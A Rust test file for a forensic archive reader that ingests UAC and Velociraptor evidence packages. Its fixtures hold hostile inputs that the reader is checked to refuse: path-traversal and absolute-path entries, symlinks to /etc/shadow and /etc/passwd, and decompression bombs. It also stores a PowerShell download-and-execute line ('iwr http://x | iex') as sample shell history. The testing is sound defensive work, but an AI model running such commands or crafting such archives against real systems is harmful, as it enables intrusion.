use super::*;
use std::io::Write;

fn everything(_: &str) -> bool {
    true
}

/// Reads a package, returning the report and each file's (original path, content).
fn read_all(path: &Path, limits: &PackageLimits) -> (PackageReport, Vec<(String, Vec<u8>)>) {
    let mut got = Vec::new();
    let report = read_package(path, limits, &everything, &mut |entry, reader| {
        let mut bytes = Vec::new();
        reader.read_to_end(&mut bytes)?;
        got.push((entry.original_path.clone(), bytes));
        Ok(())
    })
    .unwrap();
    (report, got)
}

/// A tar header for a regular file named `name` (written raw, so hostile names survive).
fn file_header(name: &str, size: u64) -> tar::Header {
    let mut h = tar::Header::new_ustar();
    let bytes = name.as_bytes();
    h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(1_700_000_000);
    h.set_entry_type(tar::EntryType::Regular);
    h.set_cksum();
    h
}

fn tar_gz(path: &Path, build: impl FnOnce(&mut tar::Builder<flate2::write::GzEncoder<File>>)) {
    let file = File::create(path).unwrap();
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        file,
        flate2::Compression::default(),
    ));
    build(&mut builder);
    builder.into_inner().unwrap().finish().unwrap();
}

fn add(builder: &mut tar::Builder<impl Write>, name: &str, content: &[u8]) {
    let header = file_header(name, content.len() as u64);
    builder.append(&header, content).unwrap();
}

#[test]
fn uac_tar_gz_maps_paths_and_refuses_hostile_entries() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("collection.bin");
    tar_gz(&path, |b| {
        add(b, "uac-web01-linux-20240101/uac.log", b"collector log");
        add(
            b,
            "uac-web01-linux-20240101/[root]/var/log/auth.log",
            b"Dec 10 sshd[1]: Failed password\n",
        );
        add(
            b,
            "uac-web01-linux-20240101/[root]/root/.bash_history",
            b"id\n",
        );
        add(b, "../../../tmp/evil", b"x");
        add(b, "/etc/cron.d/evil", b"x");
        let mut link = tar::Header::new_ustar();
        link.set_path("uac-web01-linux-20240101/[root]/etc/shadow")
            .unwrap();
        link.set_entry_type(tar::EntryType::Symlink);
        link.set_link_name("/etc/shadow").unwrap();
        link.set_size(0);
        link.set_cksum();
        b.append(&link, &[][..]).unwrap();
        let mut fifo = tar::Header::new_ustar();
        fifo.set_path("uac-web01-linux-20240101/[root]/run/initctl")
            .unwrap();
        fifo.set_entry_type(tar::EntryType::Fifo);
        fifo.set_size(0);
        fifo.set_cksum();
        b.append(&fifo, &[][..]).unwrap();
    });
    assert_eq!(
        PackageFormat::detect(&path).unwrap(),
        Some(PackageFormat::TarGz)
    );
    let (report, files) = read_all(&path, &PackageLimits::default());
    assert_eq!(report.layout, Layout::Uac);
    assert_eq!(
        files,
        [
            (
                "/var/log/auth.log".to_string(),
                b"Dec 10 sshd[1]: Failed password\n".to_vec()
            ),
            ("/root/.bash_history".to_string(), b"id\n".to_vec()),
        ]
    );
    assert_eq!(
        report.files[0].modified,
        DateTime::from_timestamp(1_700_000_000, 0)
    );
    let refused: Vec<(&str, &str)> = report
        .refused
        .iter()
        .map(|r| (r.archive_path.as_str(), r.reason.as_str()))
        .collect();
    assert_eq!(
        refused,
        [
            ("../../../tmp/evil", "path traversal (`..`)"),
            ("/etc/cron.d/evil", "absolute path"),
            (
                "uac-web01-linux-20240101/[root]/etc/shadow",
                "link to /etc/shadow, not followed"
            ),
            (
                "uac-web01-linux-20240101/[root]/run/initctl",
                "special file (device, FIFO), not a regular file"
            ),
        ]
    );
    assert_eq!(report.ignored, 1, "the collector's own log");
}

#[test]
fn velociraptor_zip_maps_accessor_paths() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Collection-WIN10.zip");
    {
        let mut zip = zip::ZipWriter::new(File::create(&path).unwrap());
        let opts = zip::write::SimpleFileOptions::default();
        zip.start_file(
            "uploads/auto/C%3A/Windows/System32/winevt/Logs/Security.evtx",
            opts,
        )
        .unwrap();
        zip.write_all(b"ElfFile\0").unwrap();
        zip.start_file("uploads/auto/C%3A/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", opts).unwrap();
        zip.write_all(b"iwr http://x | iex\n").unwrap();
        zip.start_file("results/Windows.KapeFiles.Targets.json", opts)
            .unwrap();
        zip.write_all(b"{}").unwrap();
        zip.start_file("uploads/auto/../../escape.txt", opts)
            .unwrap();
        zip.write_all(b"x").unwrap();
        zip.add_symlink("uploads/auto/C%3A/link", "/etc/passwd", opts)
            .unwrap();
        zip.finish().unwrap();
    }
    assert_eq!(
        PackageFormat::detect(&path).unwrap(),
        Some(PackageFormat::Zip)
    );
    let (report, files) = read_all(&path, &PackageLimits::default());
    assert_eq!(report.layout, Layout::Velociraptor);
    let paths: Vec<&str> = files.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        [
            "C:/Windows/System32/winevt/Logs/Security.evtx",
            "C:/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
        ]
    );
    assert_eq!(files[1].1, b"iwr http://x | iex\n");
    let reasons: Vec<&str> = report.refused.iter().map(|r| r.reason.as_str()).collect();
    assert_eq!(
        reasons,
        ["path traversal (`..`)", "symbolic link, not followed"]
    );
    assert_eq!(report.ignored, 1);
}

#[test]
fn plain_tar_of_a_host_folder_strips_the_folder() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("web01.tar");
    {
        let mut b = tar::Builder::new(File::create(&path).unwrap());
        add(&mut b, "web01/etc/hostname", b"web01\n");
        add(&mut b, "web01/var/log/auth.log", b"line\n");
        b.finish().unwrap();
    }
    assert_eq!(
        PackageFormat::detect(&path).unwrap(),
        Some(PackageFormat::Tar)
    );
    let selected = |p: &str| p.starts_with("/var/log/");
    let mut seen = Vec::new();
    let report = read_package(&path, &PackageLimits::default(), &selected, &mut |e, _| {
        seen.push(e.original_path.clone());
        Ok(())
    })
    .unwrap();
    assert_eq!(report.layout, Layout::Plain);
    assert_eq!(seen, ["/var/log/auth.log"]);
    assert_eq!(report.ignored, 1, "not selected");
}

#[test]
fn decompression_bombs_and_limits_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 40 << 20];
    // tar.gz: 40 MiB of zeros compress about 1000:1; reading stops with a reason.
    let bomb = dir.path().join("bomb.tgz");
    tar_gz(&bomb, |b| {
        add(b, "etc/a", b"small");
        add(b, "var/log/zeros", &zeros);
        add(b, "var/log/after", b"never read");
    });
    let (report, files) = read_all(&bomb, &PackageLimits::default());
    assert_eq!(files.len(), 1, "{:?}", report.refused);
    assert!(
        report.refused[0].reason.contains("decompression bomb"),
        "{:?}",
        report.refused
    );
    // zip: the same entry is refused by its own ratio, the rest is read.
    let zbomb = dir.path().join("bomb.zip");
    {
        let mut zip = zip::ZipWriter::new(File::create(&zbomb).unwrap());
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("var/log/zeros", opts).unwrap();
        zip.write_all(&zeros).unwrap();
        zip.start_file("var/log/ok", opts).unwrap();
        zip.write_all(b"fine").unwrap();
        zip.finish().unwrap();
    }
    let (report, files) = read_all(&zbomb, &PackageLimits::default());
    assert_eq!(files, [("/var/log/ok".to_string(), b"fine".to_vec())]);
    assert!(
        report.refused[0].reason.contains("compression ratio"),
        "{:?}",
        report.refused
    );

    // Count, size and total caps.
    let many = dir.path().join("many.tar");
    {
        let mut b = tar::Builder::new(File::create(&many).unwrap());
        for i in 0..5 {
            add(&mut b, &format!("var/log/f{i}"), &vec![b'x'; 100 * (i + 1)]);
        }
        b.finish().unwrap();
    }
    let limits = PackageLimits {
        max_entries: 3,
        ..PackageLimits::default()
    };
    let (report, files) = read_all(&many, &limits);
    assert_eq!(files.len(), 3);
    assert_eq!(report.refused[0].reason, "more than 3 entries");
    let limits = PackageLimits {
        max_file_size: 250,
        ..PackageLimits::default()
    };
    let (report, files) = read_all(&many, &limits);
    assert_eq!(files.len(), 2);
    assert_eq!(report.refused.len(), 3);
    let limits = PackageLimits {
        max_total_bytes: 650,
        ..PackageLimits::default()
    };
    let (report, files) = read_all(&many, &limits);
    assert_eq!(files.len(), 3, "100 + 200 + 300 bytes fit, 400 more do not");
    assert_eq!(report.refused[0].reason, "more than 650 bytes in total");
}

#[test]
fn non_packages_and_corrupt_packages() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    std::fs::write(&log, "Dec 10 06:55:46 host sshd[1]: hello\n").unwrap();
    assert_eq!(PackageFormat::detect(&log).unwrap(), None);
    assert!(
        read_package(
            &log,
            &PackageLimits::default(),
            &everything,
            &mut |_, _| Ok(())
        )
        .is_err()
    );
    let broken = dir.path().join("broken.zip");
    std::fs::write(&broken, b"PK\x03\x04 this is not really a zip").unwrap();
    assert!(matches!(
        read_package(
            &broken,
            &PackageLimits::default(),
            &everything,
            &mut |_, _| Ok(())
        ),
        Err(AcquireError::Unsafe { .. })
    ));
    // A truncated tar.gz keeps what was read before the damage.
    let good = dir.path().join("good.tgz");
    tar_gz(&good, |b| {
        add(b, "etc/hostname", b"h\n");
        add(b, "var/log/big", &vec![b'a'; 200_000]);
    });
    let bytes = std::fs::read(&good).unwrap();
    let cut = dir.path().join("cut.tgz");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let mut got = Vec::new();
    let outcome = read_package(&cut, &PackageLimits::default(), &everything, &mut |e, r| {
        let mut sink = Vec::new();
        r.read_to_end(&mut sink)?;
        got.push(e.original_path.clone());
        Ok(())
    });
    // The damaged entry is refused as corrupt, and the rest of the stream with it; what
    // came before was read.
    let report = outcome.expect("a truncated package is read as far as it goes");
    assert_eq!(got, ["/etc/hostname"]);
    let refused: Vec<(&str, &str)> = report
        .refused
        .iter()
        .map(|r| (r.archive_path.as_str(), r.reason.as_str()))
        .collect();
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert_eq!(refused[0].0, "var/log/big");
    assert!(refused[0].1.starts_with("corrupt entry: "), "{refused:?}");
    assert_eq!(refused[1].0, "(rest of the package)");
    // A visitor that fails for its own reasons still fails the read.
    let err = read_package(
        &good,
        &PackageLimits::default(),
        &everything,
        &mut |_, _| Err(std::io::Error::other("the evidence store is full")),
    )
    .expect_err("the visitor's failure is the caller's");
    assert!(
        err.to_string().contains("the evidence store is full"),
        "{err}"
    );
}
